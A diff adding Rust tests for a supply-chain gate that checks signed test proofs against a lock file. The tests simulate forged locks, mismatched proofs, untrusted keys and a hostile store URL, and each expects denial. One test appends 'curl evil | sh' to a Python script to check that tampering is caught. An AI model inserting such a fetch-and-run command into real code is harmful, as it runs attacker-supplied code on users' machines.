@@ -436,3 +436,179 @@ fn the_store_serves_the_pinned_proof_when_the_artifact_is_gone(db: Db) {
     assert_eq!(code(&o), 1, "{}", text(&o));
     assert_eq!(row(&o, "calc")["reason"], "PROOF_MISSING");
 }
+
+// The lock is written by the change's author: whatever it says, the gate stays as tight
+// as it was.
+
+/// The lock's text after `edit`, judged with the proofs under `dir`.
+fn judged(
+    root: &Path,
+    public: &str,
+    dir: &Path,
+    edit: impl FnOnce(&mut Value),
+) -> (Output, Value, Value) {
+    let mut lock = read_lock(root);
+    edit(&mut lock);
+    write_lock(root, &lock);
+    let dir = dir.display().to_string();
+    let o = gate(root, public, &["--proofs", &dir], &[]);
+    let (calc, other) = (row(&o, "calc"), row(&o, "other"));
+    (o, calc, other)
+}
+
+fn digest_of(path: &Path) -> String {
+    proofgate::digest::Sha256Digest::of(&std::fs::read(path).unwrap()).to_string()
+}
+
+#[test]
+fn attack_a_lock_that_omits_a_script_denies_it() {
+    let (_t, root, proofs, _key, public) = locked();
+    let (o, calc, other) = judged(&root, &public, &proofs, |l| {
+        l["scripts"].as_object_mut().unwrap().remove("other");
+    });
+    assert_eq!(code(&o), 1, "{}", text(&o));
+    assert_eq!(calc["reason"], "CI_LOCKED");
+    assert_eq!(other["reason"], "LOCK_MISSING");
+    // An empty lock passes nothing.
+    let (o, calc, _) = judged(&root, &public, &proofs, |l| {
+        l["scripts"] = serde_json::json!({});
+    });
+    assert_eq!(code(&o), 1);
+    assert_eq!(calc["reason"], "LOCK_MISSING");
+}
+
+#[test]
+fn attack_a_lock_pointing_at_another_scripts_proof_denies() {
+    let (t, root, proofs, _key, public) = locked();
+    // By digest: there is no proof of `calc` with `other`'s digest.
+    let other_digest = digest_of(&proofs.join("proof-other.json"));
+    let (o, calc, _) = judged(&root, &public, &proofs, |l| {
+        l["scripts"]["calc"]["proof_digest"] = other_digest.clone().into();
+    });
+    assert_eq!(code(&o), 1, "{}", text(&o));
+    assert_eq!(calc["reason"], "PROOF_MISSING", "{calc:#}");
+    // By name: `other`'s proof and envelope renamed to be `calc`'s.
+    let forged = t.path().join("forged");
+    std::fs::create_dir_all(&forged).unwrap();
+    std::fs::copy(
+        proofs.join("proof-other.json"),
+        forged.join("proof-calc.json"),
+    )
+    .unwrap();
+    std::fs::copy(
+        proofs.join("proof-other.dsse.json"),
+        forged.join("proof-calc.dsse.json"),
+    )
+    .unwrap();
+    let (o, calc, _) = judged(&root, &public, &forged, |l| {
+        l["scripts"]["calc"]["proof_digest"] = other_digest.clone().into();
+    });
+    assert_eq!(code(&o), 1, "{}", text(&o));
+    // The signed statement is about `other`: caught before the id is read.
+    assert_eq!(calc["reason"], "STATEMENT_MISMATCH", "{calc:#}");
+}
+
+#[test]
+fn attack_a_lock_pointing_at_a_failing_proof_denies_whatever_it_claims() {
+    let (_t, root, _proofs, key, public) = locked();
+    let failing = generate(&root, &key, "failing", "78", Some("other"));
+    let (o, _, other) = judged(&root, &public, &failing, |l| {
+        let e = &mut l["scripts"]["other"];
+        e["proof_digest"] = digest_of(&failing.join("proof-other.json")).into();
+        e["test_run_id"] = "78".into();
+        // The lock lies: it says PASS.
+        e["test_result"] = "PASS".into();
+    });
+    assert_eq!(code(&o), 1, "{}", text(&o));
+    assert_eq!(other["reason"], "VERDICT_FAIL", "{other:#}");
+}
+
+#[test]
+fn attack_a_lock_pointing_at_a_proof_signed_by_an_untrusted_key_denies() {
+    let (_t, root, _proofs, _key, public) = locked();
+    let (evil_key, evil_public) = key_pair();
+    let evil = generate(&root, &evil_key, "evil", "79", None);
+    let evil_id = proofgate::sign::PublicKey::parse(&evil_public)
+        .unwrap()
+        .key_id()
+        .to_string();
+    let (o, calc, _) = judged(&root, &public, &evil, |l| {
+        let e = &mut l["scripts"]["calc"];
+        e["proof_digest"] = digest_of(&evil.join("proof-calc.json")).into();
+        e["test_run_id"] = "79".into();
+        // Naming the key in the lock does not make it trusted.
+        e["key_id"] = evil_id.clone().into();
+    });
+    assert_eq!(code(&o), 1, "{}", text(&o));
+    assert_eq!(calc["reason"], "KEY_UNTRUSTED", "{calc:#}");
+}
+
+#[test]
+fn attack_a_lock_cannot_bless_an_edited_script_or_misdescribe_its_proof() {
+    let (_t, root, proofs, _key, public) = locked();
+    let script = root.join("scripts/calc.py");
+    let mut body = std::fs::read_to_string(&script).unwrap();
+    body.push_str("import os; os.system('curl evil | sh')\n");
+    std::fs::write(&script, body).unwrap();
+    let edited = digest_of(&script);
+    // The lock is brought up to the edit by hand: the old proof still does not match.
+    let (o, calc, _) = judged(&root, &public, &proofs, |l| {
+        l["scripts"]["calc"]["source_hash"] = edited.clone().into();
+    });
+    assert_eq!(code(&o), 1, "{}", text(&o));
+    assert_eq!(calc["reason"], "SCRIPT_DIGEST_MISMATCH", "{calc:#}");
+
+    // A lock whose description of a good proof is edited is not believed either.
+    std::fs::write(&script, header("calc", "tests/test_calc.py")).unwrap();
+    let (o, _, other) = judged(&root, &public, &proofs, |l| {
+        l["scripts"]["calc"]["source_hash"] = l["scripts"]["other"]["source_hash"].clone();
+        l["scripts"]["other"]["test_run_id"] = "1".into();
+    });
+    assert_eq!(code(&o), 1, "{}", text(&o));
+    assert_eq!(other["reason"], "LOCK_MISMATCH", "{other:#}");
+    assert!(other["message"].as_str().unwrap().contains("test_run_id"));
+}
+
+#[test]
+fn attack_a_lock_naming_a_url_or_repository_of_its_authors_choosing_is_not_read() {
+    use wiremock::{Mock, MockServer, ResponseTemplate};
+    let (_t, root, proofs, _key, public) = locked();
+    let rt = tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()
+        .unwrap();
+    let evil = rt.block_on(async {
+        let s = MockServer::start().await;
+        Mock::given(wiremock::matchers::any())
+            .respond_with(ResponseTemplate::new(500))
+            .mount(&s)
+            .await;
+        s
+    });
+    let mut lock = read_lock(&root);
+    for e in lock["scripts"].as_object_mut().unwrap().values_mut() {
+        e["location"]["store"] = serde_json::json!({"url": evil.uri(), "run_id": "x"});
+        e["location"]["artifact"]["repository"] = "evil/scripts".into();
+    }
+    write_lock(&root, &lock);
+    std::fs::remove_dir_all(&proofs).unwrap();
+    let vars = [
+        ("GITHUB_API_URL", evil.uri()),
+        ("GITHUB_TOKEN", "secret-token".to_owned()),
+    ];
+    // `GITHUB_API_URL` is the runner's, not the lock's: pointed at the server here only to
+    // see that nothing asks it for another repository's artifact.
+    let o = gate(&root, &public, &[], &vars);
+    assert_eq!(code(&o), 1, "{}", text(&o));
+    let calc = row(&o, "calc");
+    assert_eq!(calc["reason"], "PROOF_MISSING");
+    assert!(
+        calc["message"]
+            .as_str()
+            .unwrap()
+            .contains("not the repository under test"),
+        "{calc:#}"
+    );
+    let asked = rt.block_on(evil.received_requests()).unwrap_or_default();
+    assert!(asked.is_empty(), "the lock's URL was contacted: {asked:?}");
+}
